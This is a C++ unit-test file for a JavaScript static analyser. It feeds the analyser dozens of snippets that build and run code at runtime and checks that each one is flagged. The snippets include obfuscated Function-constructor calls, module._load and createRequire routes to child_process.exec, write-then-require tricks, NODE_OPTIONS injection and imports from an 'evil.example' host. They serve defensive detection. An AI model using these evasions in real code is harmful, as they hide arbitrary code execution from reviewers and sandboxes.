// Code that is made while the program runs: by Function under other names, by files that it writes, by URLs that are code.
#include <gtest/gtest.h>

#include "languages/analysers.h"
#include "languages/verify_testing.h"

using namespace hotcell;
using namespace hotcell::testing_rules;

namespace {

Judged look(const std::string& source, VerifyLevel level) {
  static const std::vector<Rule> rules = rules_of("javascript");
  return judge_source(Grammar::kJavascript, javascript_facts, rules, source, level);
}

const char* const kFunctions[] = {
    R"js((async()=>{}).constructor('return process')())js",
    R"js(Object.getPrototypeOf(function*(){}).constructor('x')())js",
    R"js(Object.getPrototypeOf(async function(){}).constructor('x'))js",
    R"js(const F = Function; new F('x')())js",
    R"js(const F = Function; F('x')())js",
    R"js(globalThis['Fun'+'ction']('x')())js",
    R"js(Reflect.construct(Function, ['x'])())js",
    R"js(Reflect.apply(Function, null, ['x'])())js",
    R"js(Reflect.construct(globalThis.Function, ['x'])())js",
    R"js(Function.prototype.constructor('x')())js",
    R"js(Function.call(null, 'x')())js",
    R"js(Function.apply(null, ['x'])())js",
    R"js(Function.bind(null, 'x')()())js",
    R"js([].map.constructor('x')())js",
    R"js(''.sub.constructor('x')())js",
    R"js((()=>{})['constructor']('x')())js",
    R"js(const {constructor} = ()=>{}; constructor('x')())js",
    R"js(const {constructor: C} = function(){}; C('x')())js",
    R"js(Object.getOwnPropertyDescriptor(Function.prototype, 'constructor').value('x')())js",
    R"js(new Function('a', 'return a')(1))js",
    R"js(const g = (function(){return this})(); g.Function('x')())js",
    R"js(new (Object.getPrototypeOf(async()=>{}).constructor)('x'))js",
    R"js(const AsyncFunction = Object.getPrototypeOf(async function(){}).constructor; await new AsyncFunction('x')())js",
    R"js(const AsyncFunction = (async () => {}).constructor; new AsyncFunction('x')())js",
    R"js(Reflect.get(globalThis, 'Function')('x')())js",
    R"js(Reflect.getPrototypeOf(()=>{}).constructor('x')())js",
    R"js((function*(){}).__proto__.constructor('x'))js",
    R"js(const fn = () => {}; fn.constructor('x')())js",
    R"js(function fn() {} fn.constructor('x')())js",
    R"js(class A {} A.constructor('x')())js",
};
const char* const kOthers[] = {
    R"js(import('data:text/javascript,console.log(1)'))js",
    R"js(import x from 'data:text/javascript,console.log(1)')js",
    R"js(import('data:text/javascript;base64,' + b))js",
    R"js(require('vm').runInNewContext('x'))js",
    R"js(const vm = require('vm'); new vm.Script('x').runInThisContext())js",
    R"js(vm = require('node:vm'); vm.compileFunction('x'))js",
    R"js(const { Worker } = require('worker_threads'); new Worker(new URL('data:text/javascript,x')))js",
    R"js(module.constructor._load('child_process').exec('id'))js",
    R"js(module.constructor._load('fs'))js",
    R"js(process.mainModule.require('child_process').exec('id'))js",
    R"js(require('module')._load('child_process').exec('id'))js",
    R"js(require('module').createRequire(__filename)('child_process').exec('id'))js",
};
const char* const kRoundabout[] = {
    R"js(const F = [].constructor.constructor; F('x')())js",
    R"js(const x = {}; x.constructor.constructor('return process')())js",
    R"js(Object.constructor('x')())js",
    R"js(Array.constructor('x')())js",
    R"js(const k = 'constructor'; (()=>{})[k]('x')())js",
    R"js(const k = 'con' + 'structor'; (()=>{})[k][k]('x')())js",
    R"js(const g = Object.getPrototypeOf(function*(){}); g['constructor']('x'))js",
    R"js(let F; F = Function; F('x')())js",
    R"js(const o = {f: Function}; o.f('x')())js",
    R"js(const [F] = [Function]; F('x')())js",
    R"js(function mk() { return Function } mk()('x')())js",
    R"js(const F = () => Function; F()('x')())js",
    R"js((function f(){}).constructor.apply(null, ['x'])())js",
    R"js([Function][0]('x')())js",
    R"js([Function].map(f => f('x')()))js",
    R"js(new (class extends Function {})('x')())js",
    R"js(class G extends Function {} new G('x')())js",
    R"js(class G extends (async()=>{}).constructor {} new G('x')())js",
    R"js(Function`x```)js",
    R"js(Reflect.construct(...[Function, ['x']])())js",
    R"js(Reflect['construct'](Function, ['x'])())js",
    R"js(const R = Reflect; R.construct(Function, ['x'])())js",
    R"js(const { construct } = Reflect; construct(Function, ['x'])())js",
    R"js(Promise.resolve('x').then(Function).then(f => f()))js",
    R"js(['x'].map(Function)[0]())js",
    R"js(['x'].map(eval))js",
    R"js(Array.from(['x'], Function)[0]())js",
    R"js('x'.replace(/x/, Function))js",
    R"js(setTimeout(Function('x')))js",
    R"js(queueMicrotask(new Function('x')))js",
    R"js(process.on('exit', new Function('x')))js",
    R"js(globalThis[atob('RnVuY3Rpb24=')]('x')())js",
    R"js(globalThis[['Fun','ction'].join('')]('x')())js",
    R"js(globalThis[String.fromCharCode(69+1, 117, 110, 99, 116, 105, 111, 110)]('x')())js",
    R"js(for (const k of Object.getOwnPropertyNames(globalThis)) if (k[0] == 'F' && k.length == 8) globalThis[k]('x')())js",
    R"js(const {Function: F} = globalThis; F('x')())js",
    R"js(const {['Func' + 'tion']: F} = globalThis; F('x')())js",
    R"js(with (globalThis) Function('x')())js",
    R"js((function(){ return this.Function('x')() })())js",
    R"js((()=>{}).__proto__.constructor('x')())js",
    R"js(Function.prototype.call.call(Function, null, 'x')())js",
    R"js(Function.prototype.call.bind(Function)(null, 'x')())js",
    R"js(Function.prototype.apply.call(Function, null, ['x'])())js",
    R"js(import('node:module').then(m => m.createRequire('/')('child_process').exec('id')))js",
    R"js(import { createRequire } from 'module'; createRequire(import.meta.url)('child_process').execSync('id'))js",
    R"js(import('vm').then(v => v.runInThisContext('x')))js",
    R"js(const { runInThisContext: r } = require('vm'); r('x'))js",
    R"js(require('vm')['run' + 'InThisContext']('x'))js",
    R"js(import * as vm from 'vm'; new vm.SourceTextModule('x'))js",
    R"js(const b = new Blob(['x']); import(URL.createObjectURL(b)))js",
    R"js(import(`data:text/javascript,${c}`))js",
    R"js(const u = 'data:text/javascript,' + encodeURIComponent(c); import(u))js",
    R"js(const u = new URL('data:text/javascript,x'); import(u))js",
    R"js(process.mainModule.constructor._load('child_process').exec('id'))js",
    R"js(module.children[0].require('child_process').exec('id'))js",
    R"js(require.main.constructor._load('child_process'))js",
    R"js(require.extensions['.txt'] = (m, f) => m._compile(c, f))js",
    R"js(require('module').prototype._compile.call(module, c, 'f'))js",
    R"js(require('module').wrap = s => c)js",
    R"js(require('module').register('./hooks.mjs'))js",
    R"js(process.execArgv.push('-r'); process.env.NODE_OPTIONS = '--require ./x.js')js",
    R"js(new (require('worker_threads').Worker)(c, {eval: 1}))js",
    R"js(const {Worker: W} = require('worker_threads'); new W(c, {eval: !0, workerData: 1}))js",
    R"js(const w = require('worker_threads'); new w.Worker(c, {...{eval: true}}))js",
    R"js(require('child_process').fork('./x.js'))js",
};
const char* const kWritten[] = {
    R"js(const fs = require('fs'); fs.writeFileSync('./x.js', code); require('./x.js'))js",
    R"js(const fs = require('fs'); fs.writeFileSync('x.js', 'module.exports = 1'); require('./x'))js",
    R"js(const fs = require('fs'); fs.writeFileSync('/tmp/x.js', "require('child_process').exec('id')"); require('/tmp/x.js'))js",
    R"js(import fs from 'fs'; fs.writeFileSync('x.mjs', c); await import('./x.mjs'))js",
    R"js(const fs = require('fs'); const p = './gen.js'; fs.writeFileSync(p, c); require(p))js",
    R"js(const fs = require('fs').promises; await fs.writeFile('m.js', c); require('./m.js'))js",
    R"js(const fs = require('fs'); fs.appendFileSync('m.cjs', c); require('./m'))js",
    R"js(const fs = require('fs'); fs.createWriteStream('m.js').end(c); require('./m'))js",
    R"js(const fs = require('fs'); fs.writeFileSync('a.txt', c); fs.renameSync('a.txt', 'b.js'); require('./b.js'))js",
    R"js(const fs = require('fs'), path = require('path'); fs.writeFileSync(path.join(__dirname, 'z.js'), c); require(path.join(__dirname, 'z.js')))js",
    R"js(const fs = require('fs'), os = require('os'), path = require('path'); const f = path.join(os.tmpdir(), 'z.js'); fs.writeFileSync(f, c); require(f))js",
    R"js(const { Worker } = require('worker_threads'), fs = require('fs'); fs.writeFileSync('./w.js', c); new Worker('./w.js'))js",
    R"js(const fs = require('fs'); fs.mkdirSync('node_modules/x'); fs.writeFileSync('node_modules/x/index.js', c); require('x'))js",
    R"js(const fs = require('fs'); fs.writeFileSync('/tmp/x.mjs', c); import('file:///tmp/x.mjs'))js",
    R"js(const { writeFileSync: w } = require('node:fs'); w('./g.js', c); module.require('./g'))js",
    R"js(import { writeFile } from 'node:fs/promises'; await writeFile('./g.mjs', c); const m = await import('./g.mjs');)js",
    R"js(const fs = require('fs'); const fd = fs.openSync('./g.js', 'w'); fs.writeSync(fd, c); require('./g'))js",
    R"js(const fs = require('fs'); fs.writeFileSync(`${__dirname}/g.js`, c); require(`${__dirname}/g.js`))js",
    R"js(const fs = require('fs'); fs['write' + 'FileSync']('g.js', c); require('./g.js'))js",
    R"js(const fs = require('fs'); fs.writeFileSync('g.js', c); process.mainModule.require('./g.js'))js",
};
const char* const kOrdinary[] = {
    R"js(const { Worker } = require('worker_threads'); new Worker('./w.js'))js",
    R"js(class A { m() { return this.constructor.name } } new A().constructor.name)js",
    R"js(const a = [1]; console.log(a.constructor === Array, (5).constructor.name); class B { clone() { return new this.constructor(); } })js",
    R"js(const fs = require('fs'); fs.writeFileSync('out.json', '{}'); const d = require('./data.json'); const l = require('./lib');)js",
    R"js(const fs = require('fs'); fs.writeFileSync('dist/bundle.js', 'x'); const l = require('./lib.js');)js",
    R"js(const { Worker, isMainThread } = require('worker_threads'); if (isMainThread) new Worker(__filename);)js",
    R"js(setTimeout(() => {}, 0); const F = x => x; new Map(); Reflect.construct(Map, []); Reflect.apply(Math.max, null, [1]);)js",
    R"js(const fs = require('fs'); fs.writeFileSync('cfg.json', '{}'); const cfg = require('./cfg.json'); fs.mkdirSync('./lib'); const l = require('./lib'); fs.readFileSync('./a.js'); const a = require('./a.js'); fs.unlinkSync('./b.js');)js",
    R"js((function () { var root = this; this.name = 1; var old = root.lib; root.lib = {noConflict() { root.lib = old; }}; })();)js",
    R"js(const a = 'x'; const {[a + 'y']: b, ['c' + 'd']: e} = load(); [b, e].map(v => v.trim()).filter(v => v);)js",
};

TEST(JavascriptMadeCode, FunctionUnderEveryName) {
  for (const char* source : kFunctions) {
    auto found = look(source, VerifyLevel::kDefault);
    EXPECT_TRUE(found.has("js-function-constructor", "error")) << source << "\n" << found.words();
  }
}

TEST(JavascriptMadeCode, OtherWaysToCode) {
  for (const char* source : kOthers)
    for (VerifyLevel level : {VerifyLevel::kDefault, VerifyLevel::kStrict})
      EXPECT_GT(look(source, level).count("error"), 0) << source;
  EXPECT_TRUE(look("const { Worker } = require('worker_threads'); new Worker('x', {['ev' + 'al']: true})", VerifyLevel::kStrict)
                  .has("js-eval-constant", "error"));
}

TEST(JavascriptMadeCode, NoWayRoundIsWithoutAnError) {
  for (const char* source : kRoundabout)
    for (VerifyLevel level : {VerifyLevel::kDefault, VerifyLevel::kStrict})
      EXPECT_GT(look(source, level).count("error"), 0) << source;
  for (const char* source : {"import('http://evil.example/x.mjs')", "import x from 'https://evil.example/x.mjs'",
                             "const { Worker } = require('worker_threads'); new Worker('x', Object.assign({}, {eval: true}))"})
    EXPECT_GT(look(source, VerifyLevel::kStrict).count("error"), 0) << source;
}

TEST(JavascriptMadeCode, AFileThatItWritesAndLoads) {
  for (const char* source : kWritten) {
    auto found = look(source, VerifyLevel::kDefault);
    EXPECT_TRUE(found.has("js-writes-module", "error")) << source << "\n" << found.words();
  }
}

TEST(JavascriptMadeCode, OrdinaryProgramsHaveNoErrors) {
  for (const char* source : kOrdinary) {
    auto found = look(source, VerifyLevel::kDefault);
    EXPECT_EQ(found.count("error"), 0) << source << "\n" << found.words();
  }
}

}  // namespace
